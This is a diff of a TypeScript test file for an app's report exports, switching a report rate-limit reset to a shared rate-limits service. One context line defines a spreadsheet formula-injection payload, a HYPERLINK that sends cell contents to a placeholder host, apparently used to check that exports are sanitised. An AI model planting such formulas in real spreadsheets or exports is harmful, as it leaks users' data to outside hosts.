@@ -3,6 +3,7 @@ import { type CallAnswer, type TestApp, testApp } from '../../../tests/support/a
 import { readCsv } from '../../../tests/support/csv.ts'
 import { dateOfSerial, readWorkbook } from '../../../tests/support/workbook.ts'
 import { puertoRicoDay } from '../../lib/dates.ts'
+import { rateLimits } from '../../lib/rate-limits.server.ts'
 import { accountingTransactions } from '../accounting/tables.server.ts'
 import { boxRequestStatuses } from '../box-requests/contract.ts'
 import { boxRequests } from '../box-requests/tables.server.ts'
@@ -11,7 +12,7 @@ import { donations } from '../donations/tables.server.ts'
 import { eventRegistrations, events } from '../events/tables.server.ts'
 import { volunteers } from '../volunteers/tables.server.ts'
 import { type ReportType, reportApi, reportFilters, reportTypes } from './contract.ts'
-import { takenReports } from './service.server.ts'
+import { reportLimit } from './service.server.ts'
 
 const evil = '=HYPERLINK("http://x.example/?"&A1,"María")'
 const at = (day: string) => new Date(`${day}T23:30:00-04:00`)
@@ -24,7 +25,7 @@ describe('reports', () => {
     marchEvent = await fill(api)
   })
   afterAll(() => api.close())
-  beforeEach(() => takenReports(api.services).clear(String(api.admin.id)))
+  beforeEach(() => api.services.get(rateLimits).clear(reportLimit, String(api.admin.id)))
 
   const count = async (type: ReportType, query: object = {}) =>
     (await api.call(reportApi.count, { as: true, params: { type }, query: { ...query } })).body.rows
